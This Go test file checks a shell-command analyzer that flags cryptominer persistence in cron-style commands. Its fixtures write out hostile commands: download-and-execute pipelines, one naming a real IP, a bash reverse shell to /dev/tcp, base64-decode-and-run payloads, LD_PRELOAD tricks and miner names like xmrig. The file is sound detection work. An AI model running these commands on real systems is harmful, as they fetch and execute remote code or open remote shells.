package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
)

func testContext() Context {
	return Context{Known: func(name string) bool { return name == "kdevtmpfsi" || name == "kinsing" || name == "xmrig" }, Home: "/home/eve"}
}

func TestAnalyze(t *testing.T) {
	t.Parallel()
	const (
		fetch   = model.PersistenceFetchAndRun
		decode  = model.PersistenceDecodeRun
		temp    = model.PersistenceTempPath
		hidden  = model.PersistenceHiddenPath
		miner   = model.PersistenceKnownMiner
		nothing = model.PersistenceReason("")
	)
	for _, test := range []struct {
		command  string
		want     model.PersistenceReason
		evidence string // "" is not checked
	}{
		{"wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1", fetch, "wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1"},
		{"curl -fsSL http://x/a | bash -s -- -y", fetch, ""},
		{"(curl -s http://x/f.sh||wget -q -O- http://x/f.sh)|bash", fetch, ""},
		{"true; curl http://x | tee /tmp/log | sudo -u root /bin/sh -", fetch, "curl http://x | tee /tmp/log | sudo -u root /bin/sh -"},
		{`sh -c "$(curl -fsSL http://x)"`, fetch, ""},
		{"bash <(curl -s http://x)", fetch, ""},
		{"source <(wget -qO- http://x)", fetch, ""},
		{"bash < <(curl http://x)", fetch, ""},
		{`bash <<< "$(curl http://x)"`, fetch, ""},
		{"eval `wget -O- http://x`", fetch, ""},
		{"$(curl http://x)", fetch, ""},
		{`x=$(curl http://x); eval "$x"`, fetch, ""},
		{`x=$(curl http://x); echo "$x" | sh`, fetch, ""},
		{"sh -c 'curl http://x | sh'", fetch, "curl http://x | sh"},
		{`sh -c "bash -c 'sh -c \"curl http://x|sh\"'"`, fetch, ""},
		{`echo 'curl http://x|sh' | bash`, fetch, ""},
		{"curl -o /opt/a http://x && chmod +x /opt/a && /opt/a", fetch, ""},
		{"wget http://x/run.sh; sh run.sh", fetch, ""},
		{"wget -qO/var/a http://x; bash /var/a", fetch, ""},
		{"cd /opt; curl -O http://x/m; mv m n; chmod 777 n; ./n", fetch, ""},
		{"curl http://x > /opt/x.sh; bash /opt/x.sh", fetch, ""},
		{"get() { exec 3<>/dev/tcp/1.2.3.4/80; cat <&3; }; get | sh", fetch, ""},
		{"bash -i >& /dev/tcp/1.2.3.4/443 0>&1", fetch, ""},
		{`python3 -c 'import urllib.request as r;exec(r.urlopen("http://x").read())'`, fetch, ""},
		{"curl http://x | python3 -", fetch, ""},
		{"sh <<EOF\nwget -O- http://x | sh\nEOF\n", fetch, "wget -O- http://x | sh"},
		{"su -c 'curl http://x|sh' daemon", fetch, ""},
		{"flock -n /tmp/lock -c 'curl http://x|sh'", fetch, ""},
		{"find / -name x -exec sh -c 'curl http://x|sh' \\;", fetch, ""},
		{"curl http://x | xargs -I{} sh -c '{}'", fetch, ""},
		{"echo aGVsbG8= | base64 -d | sh", decode, ""},
		{"base64 --decode < /etc/x | bash", decode, ""},
		{"openssl enc -base64 -d -in /etc/x | sh", decode, ""},
		{"xxd -r -p /etc/x | sh", decode, ""},
		{`eval "$(echo aGVs | base64 -d)"`, decode, ""},
		{"base64 -d /etc/x > /usr/x; sh /usr/x", decode, ""},
		{`python -c "import base64;exec(base64.b64decode('aGVs'))"`, decode, ""},
		{"/tmp/kinsing", temp, "/tmp/kinsing"},
		{"nohup /var/tmp/x >/dev/null 2>&1 &", temp, "/var/tmp/x"},
		{"/bin/bash /dev/shm/x.sh", temp, "/dev/shm/x.sh"},
		{"timeout -k 5 60 nice -n 19 sudo -u nobody env A=b /tmp/x", temp, "/tmp/x"},
		{"/usr/bin/../../tmp/x", temp, ""},
		{"D=/tmp; $D/x", temp, "/tmp/x"},
		{`"${D:-/var/tmp}/x" -a`, temp, ""},
		{"cd /tmp && ./x", temp, "./x"},
		{". /tmp/x", temp, ""},
		{"python3 /run/user/1000/x.py", temp, ""},
		{"sh < /tmp/x", temp, ""},
		{"cat /tmp/x | sh", temp, ""},
		{"/dev/x/run", temp, ""},
		{`$'\x2ftmp\x2fx'`, temp, ""},
		{`"/t"mp/x`, temp, ""},
		{`/tm\p/x`, temp, ""},
		{"LD_PRELOAD=/tmp/x.so ls", temp, "/tmp/x.so"},
		{"start-stop-daemon --start --exec /tmp/x", temp, ""},
		{"busybox sh /tmp/x", temp, ""},
		{"exec -a '[kworker]' /tmp/x", temp, ""},
		{`$'\u002ftmp/%d\057x'`, temp, "/tmp/%d/x"},
		{"/run/shm/x", temp, ""},
		{"/proc/1/root/tmp/x", temp, ""},
		{"LD_PRELOAD=/var/../tmp/x.so ls", temp, ""},
		{"/opt/\u200b/x", hidden, ""},
		{"/etc/.x/run", hidden, "/etc/.x/run"},
		{"/usr/bin/.sshd", hidden, ""},
		{"bash '/var/lib/ /x'", hidden, ""},
		{"/var/lib/.../x", hidden, ""},
		{"~/.update", hidden, ""},
		{"~/.../run", hidden, ""},
		{"/home/eve/.x", hidden, ""},
		{"xmrig -o pool:3333", miner, "xmrig"},
		{"/opt/kdevtmpfsi", miner, "/opt/kdevtmpfsi"},

		{"find /tmp -mtime +7 -delete", nothing, ""},
		{"rm -rf /tmp/x /var/tmp/y", nothing, ""},
		{"/usr/bin/backup > /tmp/log 2>&1", nothing, ""},
		{"systemd-tmpfiles --clean /tmp/x", nothing, ""},
		{"tar -C /tmp -xf /srv/a.tar", nothing, ""},
		{"test -x /tmp/x && echo yes", nothing, ""},
		{"[ -f /tmp/x ] || touch /tmp/x", nothing, ""},
		{"flock -n /tmp/lock /usr/bin/backup", nothing, ""},
		{"curl -fsS https://hc-ping.com/uuid > /dev/null", nothing, ""},
		{"curl -s https://x/metrics | grep up", nothing, ""},
		{"wget -q https://x/data.csv -O /srv/data.csv && /usr/bin/import /srv/data.csv", nothing, ""},
		{"C=$(command -v curl); $C -o /srv/x https://x", nothing, ""},
		{`v=$(curl -s https://x/version); /opt/app/install-$v`, nothing, ""},
		{"base64 -d /etc/cert > /etc/cert.pem", nothing, ""},
		{"echo hello | sh /usr/bin/x", nothing, ""},
		{"eval \"$(dircolors -b)\"", nothing, ""},
		{"[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"", nothing, ""},
		{". \"$HOME/.cargo/env\"", nothing, ""},
		{"source ~/.nvm/nvm.sh; . ~/.bashrc; source ~/.fzf.bash", nothing, ""},
		{"~/.local/bin/tool; ~/.config/i3/start; ~/.pyenv/bin/pyenv init -", nothing, ""},
		{"/opt/app/.venv/bin/python -m app", nothing, ""},
		{"/var/www/app/.venv/bin/gunicorn", nothing, ""},
		{"cd / && run-parts --report /etc/cron.hourly", nothing, ""},
		{"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", nothing, ""},
		{"cat < /dev/null | sh", nothing, ""},
		{"", nothing, ""},
		{"\x00\xff|||&&((", nothing, ""},
		{"if true; then curl http://x | sh", fetch, ""}, // no shell parses it; its words tell
		{"( /tmp/x", temp, ""},
	} {
		v := Analyze(test.command, testContext())
		got := v.Strongest()
		if got.Reason != test.want {
			t.Errorf("%q: %q because of %q, want %q", test.command, got.Reason, got.Evidence, test.want)
		} else if test.evidence != "" && got.Evidence != test.evidence {
			t.Errorf("%q: evidence %q, want %q", test.command, got.Evidence, test.evidence)
		}
	}
}

func TestPrograms(t *testing.T) {
	t.Parallel()
	v := Analyze("/usr/bin/nice -n 5 /opt/a --x=/etc/y; ~/b; sh //srv/c", testContext())
	if got := strings.Join(v.Programs, " "); got != "/usr/bin/nice /opt/a /home/eve/b /srv/c" {
		t.Errorf("programs %s", got)
	}
}

// TestBounds gives it what would nest or grow without end.
func TestBounds(t *testing.T) {
	const fileBytes = 256 << 10 // read of a file by those who use this package
	t.Parallel()
	growing := "A=xxxxxxxxxxxxxxxx\n" + strings.Repeat("A=\"$A$A\"\nsh -c \"$A\"\n", 2000)
	for name, text := range map[string]string{
		"brackets":      strings.Repeat("(", fileBytes),
		"substitutions": strings.Repeat("$(", 4000),
		"evals":         strings.Repeat("eval $(", 3000) + strings.Repeat(")", 3000),
		"pipes":         strings.Repeat("curl x|sh|", 6000) + "sh",
		"ifs":           strings.Repeat("if ", 20000),
		"growing":       growing,
		"nested":        strings.Repeat("sh -c '", 5000),
		"one line":      strings.Repeat("a", fileBytes),
		"lines":         strings.Repeat("a\n", fileBytes/2),
		"continued":     strings.Repeat("a\\\n", fileBytes/3),
		"functions":     strings.Repeat("f(){ ", 4000),
	} {
		Analyze(text, testContext())
		if v := Analyze(text+"\n\n/tmp/x\n", testContext()); name == "lines" && v.Strongest().Reason != model.PersistenceTempPath {
			t.Errorf("%s hide what follows", name)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, seed := range []string{"curl x|sh", "a=(", "\x00", "$(`", "<<E", "'", "cd /tmp; ./x", "echo eA== | base64 -d | zcat | sh", "printf '\\x63%b' a|sh", "$(echo 63 | xxd -r -p)", "python -c 'exec(b64decode(\"QUFBQUFBQUFBQUFB\"))'", "echo a|tr a-z b|rev|bash"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, in := range []Dialect{Shell, Zsh, Words, Foreign, Library} {
			c := testContext()
			c.Dialect = in
			c.Allowance = NewAllowance()
			Analyze(text, c)
			if c.Allowance.bytes < 0 || c.Allowance.steps < 0 {
				t.Errorf("%q: %+v", text, *c.Allowance)
			}
		}
	})
}

// TestProgramsOfTheSystemMakeRoom: what stands before a miner does not hide it.
func TestProgramsOfTheSystemMakeRoom(t *testing.T) {
	t.Parallel()
	var text strings.Builder
	for i := range 3 * MaxPrograms {
		fmt.Fprintf(&text, "/usr/bin/p%d\n", i)
	}
	v := Analyze(text.String()+"/opt/y\n", testContext())
	if !slices.Contains(v.Programs, "/opt/y") || len(v.Programs) != MaxPrograms {
		t.Errorf("programs %v", v.Programs)
	}
}

// TestLeftIsCounted counts the lines that there is no room for.
func TestLeftIsCounted(t *testing.T) {
	t.Parallel()
	for _, in := range []Dialect{Shell, Words} {
		c := testContext()
		c.Dialect = in
		v := Analyze(strings.Repeat("curl http://x | sh\n", maxSuspicions+10), c)
		if len(v.Suspicions) != maxSuspicions || v.Left != 10 {
			t.Errorf("dialect %d: %d suspicions and %d left", in, len(v.Suspicions), v.Left)
		}
	}
}
